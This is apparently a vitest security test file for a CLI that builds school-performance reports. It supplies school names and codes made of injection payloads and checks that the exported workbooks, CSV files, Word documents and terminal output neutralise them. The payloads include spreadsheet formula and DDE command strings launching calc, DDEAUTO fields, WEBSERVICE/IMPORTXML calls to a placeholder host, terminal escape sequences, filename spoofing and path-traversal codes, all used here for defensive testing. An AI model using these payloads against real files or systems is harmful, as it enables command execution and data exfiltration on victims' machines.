import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import XLSX from '@e965/xlsx';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { filesBelow, type Place, place } from '../support/place.ts';
import { marks } from '../support/plain-tables.ts';

/** What a cell of a spreadsheet, a field of a document or a terminal would run, in place of a school's name. */
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?x="&A1;"Открыть")',
  '=WEBSERVICE("http://example.invalid/")',
  '=IMPORTXML(CONCAT("http://example.invalid/?v="; A2), "//a")',
  '=DDE("cmd";"/C calc";"x")',
  '  =1+1',
  '\t=1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '"=1+1"',
  "'=1+1",
  'школа,=1+1',
  'школа;=1+1',
  'школа",=1+1,"',
  'школа, @SUM(1)',
  '{=1+1}',
  '[=1+1]',
  '&L&"Wingdings"&P',
  'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
  '{ INCLUDETEXT "http://example.invalid/a" }',
  '\\o "a" HYPERLINK "http://example.invalid/"',
  'http://example.invalid/',
  '[нажмите](http://example.invalid/)',
  '![](http://example.invalid/a.png)',
  '\u001b[2J\u001b]0;заголовок\u0007',
  '\u001b]8;;http://example.invalid/\u001b\\нажмите\u001b]8;;\u001b\\',
  '\u009b31mкрасный',
  'файл\u202excod.exe',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine would run
  '%s%n${7*7}{{7*7}}',
] as const;

/** Codes that would leave the folder, or be one file on a disk that does not tell capital letters apart. */
const CODES = [
  '../../evil',
  '..\\..\\evil',
  '/etc/evil',
  '1a',
  '1A',
  '1/а',
  '1_а',
  'б.2',
  'б..2',
  'CON',
  'x'.repeat(64),
];

interface School {
  code: string;
  name: string;
}

const SCHOOLS: readonly School[] = [
  ...PAYLOADS.map((name, index) => ({ code: String(990101 + index), name })),
  ...CODES.map((code, index) => ({ code, name: `Школа с кодом ${index + 1}` })),
];
const harmless = ({ code }: School, index: number): School => ({
  code: index < PAYLOADS.length ? code : `k${index}`,
  name: `Школа ${index + 1}`,
});

const take = async (at: Place, name: string, content: string): Promise<void> => {
  const outcome = await at.take(name, content);
  expect(outcome.issues, name).toEqual([]);
};

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;

/** A workspace with these schools, where each has low results, a measure with its name, and a note of the analyst. */
async function workspaceOf(schools: readonly School[], words: string): Promise<Place> {
  const named = schools.slice(PAYLOADS.length);
  const at = place({ municipality: words, region: words, roster: { schools: named } });
  const roster = schools
    .slice(0, PAYLOADS.length)
    .map(({ code, name }) => `${quoted(code)};${quoted(name)};школа\r\n`);
  await take(at, 'реестр.csv', `Код ОО;Наименование;Вид\r\n${roster.join('')}`);
  const measures = schools.map(
    ({ code, name }) =>
      `1.2;1.2-M1;${quoted(name)};${quoted(code)};01.10.2020;31.05.2021;педагогам;выполнена\r\n`,
  );
  const header = 'Система;Вид;Название;Код ОО;Начало;Окончание;Адресат;Состояние\r\n';
  await take(at, 'меры.csv', `${header}${measures.join('')}`);
  for (const year of [2020, 2021]) {
    const [title, ...rows] = marks('КОД', year, [2, 2, 2, 3, 3, 4]).trimEnd().split('\r\n');
    const all = schools.flatMap(({ code }) => rows.map((row) => row.replace('КОД', () => quoted(code))));
    await take(at, `${year}.csv`, `${[title, ...all].join('\r\n')}\r\n`);
  }
  return at;
}

/** Every command that writes a file or a table. */
const COMMANDS: readonly (readonly string[])[] = [
  ['report', '--year', '2021', '--format', 'docx'],
  [
    'report',
    '1.1',
    '1.2',
    '2.2',
    '--year',
    '2021',
    '--format',
    'xlsx,html',
    '--per-school',
    '--out',
    'reports',
  ],
  ['report', '1.1', '1.2', '--year', '2021', '--format', 'xlsx', '--public', '--out', 'public'],
  ['form', '2.4', '--year', '2021', '--all-schools', '--out', 'forms'],
  ['form', 'measures', '--year', '2021', '--out', 'forms'],
  ['risk-schools', '--year', '2021', '-o', 'risk.csv'],
  ['risk-schools', '--year', '2021', '-o', 'risk.xlsx'],
  ['objectivity', '--year', '2021', '-o', 'objectivity.csv'],
  ['recommendations', '--year', '2021', '-o', 'recommendations.csv'],
  ['effectiveness', '--year', '2021', '-o', 'effectiveness.csv'],
];
const SAID: readonly (readonly string[])[] = [
  ['risk-schools', '--year', '2021'],
  ['objectivity', '--year', '2021'],
  ['recommendations', '--year', '2021'],
  ['effectiveness', '--year', '2021'],
  ['status', '--year', '2021'],
  ['imports'],
  ['explain', 'low.vpr4-russian-low', '--year', '2021', '--school', '990101'],
  ['explain', 'low.vpr4-russian-low', '--year', '2021', '--school', '990132'],
];

let hostile: Place;
let plain: Place;

beforeAll(async () => {
  hostile = await workspaceOf(SCHOOLS, "=cmd|' /C calc'!A0 &P \u001b[2J");
  plain = await workspaceOf(SCHOOLS.map(harmless), 'Округ');
  for (const command of COMMANDS) {
    const compared = command.includes('docx') || command.includes('reports') || command.includes('risk.xlsx');
    for (const at of compared ? [hostile, plain] : [hostile]) {
      const { exit, err } = await at.run(command);
      expect(exit, `${command.join(' ')}: ${err}`).toBe(0);
    }
  }
});

/** Files of a kind that were written, by path; with the code of a school they are many, and one stands for all. */
const written = (at: Place, ending: string): [string, Buffer][] =>
  [...filesBelow(at.directory)].filter(([name]) => name.endsWith(ending));

const partsOf = (bytes: Buffer): Record<string, string> =>
  Object.fromEntries(Object.entries(unzipSync(bytes)).map(([path, part]) => [path, strFromU8(part)]));

/** The names of what was imported: did the texts get in at all? */
const stored = (at: Place): string =>
  written(at, '.ndjson')
    .map(([, bytes]) => bytes.toString())
    .join('');

describe('texts of files that would be run', () => {
  it('are stored, all of them, or this would prove nothing', () => {
    const text = stored(hostile);
    for (const { name, code } of SCHOOLS) {
      const inside = JSON.stringify(name.trim()).slice(1, -1).trim();
      expect(text.includes(inside) || text.includes(JSON.stringify(code))).toBe(true);
    }
    expect(text).toContain('=cmd|');
  });

  it('are texts in every workbook: what is computed and what is linked is the same as with plain names', () => {
    const books = written(hostile, '.xlsx');
    expect(books.length).toBeGreaterThan(SCHOOLS.length);
    for (const [path, bytes] of books) {
      const parts = partsOf(bytes);
      for (const [part, xml] of Object.entries(parts)) {
        expect(part, path).not.toMatch(/externalLink|vbaProject|connections|activeX|embeddings/);
        if (part.endsWith('.rels')) expect(xml, `${path} ${part}`).not.toContain('TargetMode="External"');
        for (const [, formula] of xml.matchAll(/<(?:f|definedName|formula1|c:f)\b[^>]*>([^<]*)</g)) {
          expect(formula, `${path} ${part}`).not.toMatch(
            /cmd|HYPERLINK|WEBSERVICE|IMPORTXML|DDE|1\+1|example/,
          );
        }
        // Signs of fields in the running foot: a name must not bring its own.
        const foot = /<oddFooter>(.*?)<\/oddFooter>/s.exec(xml)?.[1] ?? '';
        expect(foot.replaceAll('&amp;&amp;', '').match(/&amp;[A-Z]/g) ?? [], path).toEqual(
          foot === '' ? [] : ['&amp;L', '&amp;R', '&amp;P', '&amp;N'],
        );
      }
      const book = XLSX.read(bytes, { cellFormula: true });
      for (const sheet of Object.values(book.Sheets)) {
        for (const cell of Object.values(sheet) as XLSX.CellObject[]) {
          if (typeof cell?.v === 'string' && /^\s*[=+@]/.test(cell.v)) expect(cell.t).toBe('s');
          if (cell?.l) expect(cell.l.Target).toMatch(/^#/);
        }
      }
    }
    const formulas = (at: Place, name: string) => {
      const book = XLSX.read(readFileSync(join(at.directory, name)), { cellFormula: true });
      return Object.values(book.Sheets).flatMap((sheet) =>
        Object.entries(sheet as Record<string, XLSX.CellObject>).flatMap(([place, cell]) =>
          cell?.f ? [`${place} ${cell.f}`] : [],
        ),
      );
    };
    for (const name of ['reports/msoko-1.2-2021.xlsx', 'risk.xlsx'])
      expect(formulas(hostile, name), name).toEqual(formulas(plain, name));
  });

  it('are fields without a formula in CSV, in a spreadsheet of any language', () => {
    for (const [path, bytes] of written(hostile, '.csv')) {
      const text = bytes.toString('utf8').replace(/^\ufeff/, '');
      for (const delimiter of [';', ',']) {
        const { data } = Papa.parse<string[]>(text, { delimiter });
        for (const field of data.flat()) {
          const bare = field.replace(/^[\s"]+/, '');
          if (/^[=+\-@＝＋－＠]/.test(bare)) expect(bare, path).toMatch(/^[+-]?\d+([.,]\d+)?\s?%?"?$/);
        }
      }
      expect(text).not.toMatch(/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e]/);
    }
    const { data } = Papa.parse<string[]>(readFileSync(join(hostile.directory, 'risk.csv'), 'utf8'), {
      delimiter: ';',
    });
    const names = data.map((row) => row[1]);
    expect(names).toContain("'=1+1");
    expect(names).toContain("школа,'=1+1");
    expect(names).toContain("школа;'=1+1");
  });

  it('are words in the document: it has the same fields and links as with plain names', () => {
    const active = (at: Place) => {
      const parts = partsOf(readFileSync(join(at.directory, 'reports', 'msoko-2021.docx')));
      const xml = Object.values(parts).join('');
      return {
        parts: Object.keys(parts).filter((part) => !/media\//.test(part)),
        fields: [...xml.matchAll(/<w:(?:instrText|fldSimple)\b[^>]*>([^<]*)/g)]
          .map(([field]) => field.replace(/\d+/g, '0'))
          .filter((field, index, all) => all.indexOf(field) === index),
        outside: [...xml.matchAll(/TargetMode="External"/g)].length,
      };
    };
    expect(active(hostile)).toEqual(active(plain));
    expect(active(hostile).outside).toBe(0);
    const xml = partsOf(readFileSync(join(hostile.directory, 'reports', 'msoko-2021.docx')))[
      'word/document.xml'
    ]!;
    expect(xml).toContain('DDEAUTO');
    expect([...xml.matchAll(/<w:instrText[^>]*>([^<]*)/g)].join()).not.toContain('DDEAUTO');
  });

  it('never reach a terminal as commands', async () => {
    for (const command of SAID) {
      const { exit, out, err } = await hostile.run(command, { terminal: 100 });
      expect(exit, `${command.join(' ')}: ${err}`).toBe(0);
      // Colours are the program's own.
      const said = `${out}${err}`.replace(/\u001b\[[0-9;]*m/g, '');
      expect(said, command.join(' ')).not.toMatch(
        /[\u0000-\u0008\u000b-\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e]/,
      );
      const answer = (await hostile.run([...command, '--json'])).out;
      expect(answer, command.join(' ')).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    }
  });

  it('name no file outside of the folder, and no two files alike', () => {
    const names = [...filesBelow(join(hostile.directory, '..')).keys()];
    expect(names.filter((name) => !/^(workspace|home|exports)\//.test(name))).toEqual([]);
    for (const folder of ['forms/', 'reports/schools/']) {
      const inside = names
        .filter((name) => name.startsWith(`workspace/${folder}`))
        .map((name) => name.slice(`workspace/${folder}`.length));
      const own = inside.filter((name) => !name.includes('measures'));
      expect(own).toHaveLength(SCHOOLS.length);
      expect(new Set(own.map((name) => name.toLowerCase())).size).toBe(SCHOOLS.length);
      for (const name of own) {
        expect(name).not.toMatch(/[<>:"/\\|?*\u0000-\u001f]|[. ]$/);
        expect(name).toMatch(/^msoko-/);
        expect(Buffer.byteLength(name)).toBeLessThan(200);
      }
    }
  });
});
